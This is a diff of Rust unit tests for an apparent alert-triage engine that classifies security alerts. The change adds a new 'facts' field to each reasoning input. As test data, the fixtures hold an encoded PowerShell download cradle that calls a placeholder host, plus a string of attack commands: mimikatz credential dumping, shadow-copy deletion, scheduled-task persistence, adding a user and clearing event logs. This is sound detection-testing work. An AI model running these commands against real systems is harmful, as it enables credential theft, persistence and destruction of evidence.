@@ -35,7 +35,8 @@ fn encoded_powershell_download_is_a_true_positive_with_containment_behind_approv
     let alert = alert("Suspicious PowerShell", Severity::Medium, &["Execution"]);
     let entities =
         host_with_command("powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA; (New-Object Net.WebClient).DownloadString('http://x')");
-    let verdict = reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[] });
+    let verdict =
+        reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[], facts: Facts::default() });
     assert_eq!(verdict.classification, Classification::TruePositive);
     assert!(verdict.confidence >= CONTAINMENT_THRESHOLD, "{verdict:?}");
     assert!(verdict.techniques.contains(&"T1059.001".to_owned()));
@@ -49,7 +50,8 @@ fn encoded_powershell_download_is_a_true_positive_with_containment_behind_approv
 fn weak_evidence_needs_investigation_and_is_never_dismissed() {
     let alert = alert("Unusual sign-in", Severity::Low, &[]);
     let entities = AlertEntities::default();
-    let verdict = reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[] });
+    let verdict =
+        reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[], facts: Facts::default() });
     assert_eq!(verdict.classification, Classification::NeedsInvestigation);
     assert!(!verdict.has_destructive_action());
 }
@@ -57,8 +59,14 @@ fn weak_evidence_needs_investigation_and_is_never_dismissed() {
 #[test]
 fn soc_operational_alerts_are_benign_true_positives() {
     let alert = alert("Automated investigation started manually", Severity::Informational, &[]);
-    let verdict =
-        reason(&ReasoningInput { alert: &alert, entities: &AlertEntities::default(), iocs: &[], incident: None, ti_matches: &[] });
+    let verdict = reason(&ReasoningInput {
+        alert: &alert,
+        entities: &AlertEntities::default(),
+        iocs: &[],
+        incident: None,
+        ti_matches: &[],
+        facts: Facts::default(),
+    });
     assert_eq!(verdict.classification, Classification::BenignTruePositive);
     assert!(!verdict.has_destructive_action());
 }
@@ -67,8 +75,14 @@ fn soc_operational_alerts_are_benign_true_positives() {
 fn adopts_the_siem_recorded_determination() {
     let mut alert = alert("Anything", Severity::Low, &[]);
     alert.raw_payload = json!({"ExtendedProperties": "{\"Classification\":\"FalsePositive\"}"});
-    let verdict =
-        reason(&ReasoningInput { alert: &alert, entities: &AlertEntities::default(), iocs: &[], incident: None, ti_matches: &[] });
+    let verdict = reason(&ReasoningInput {
+        alert: &alert,
+        entities: &AlertEntities::default(),
+        iocs: &[],
+        incident: None,
+        ti_matches: &[],
+        facts: Facts::default(),
+    });
     assert_eq!(verdict.classification, Classification::FalsePositive);
     assert!(verdict.confidence >= 0.9);
 }
@@ -78,7 +92,14 @@ fn confidence_stays_within_zero_and_one() {
     for severity in Severity::ALL {
         let alert = alert("x", severity, &["CredentialAccess", "Impact"]);
         let entities = host_with_command("mimikatz sekurlsa vssadmin delete shadows -enc x schtasks /create net user /add wevtutil cl");
-        let verdict = reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[] });
+        let verdict = reason(&ReasoningInput {
+            alert: &alert,
+            entities: &entities,
+            iocs: &[],
+            incident: None,
+            ti_matches: &[],
+            facts: Facts::default(),
+        });
         assert!((0.0..=1.0).contains(&verdict.confidence), "{severity}: {}", verdict.confidence);
     }
 }
@@ -97,7 +118,8 @@ fn never_proposes_blocking_vendor_or_own_domains() {
         dns: vec![DnsEntity { domain: "x.blob.core.windows.net".into(), resolved_ips: vec![] }],
         ..Default::default()
     };
-    let verdict = reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[] });
+    let verdict =
+        reason(&ReasoningInput { alert: &alert, entities: &entities, iocs: &[], incident: None, ti_matches: &[], facts: Facts::default() });
     let blocked: Vec<&str> =
         verdict.recommended_actions.iter().filter(|a| a.action == ActionKind::BlockIndicator).map(|a| a.target.as_str()).collect();
     assert_eq!(blocked, vec!["https://evil-login.example.net/owa"]);
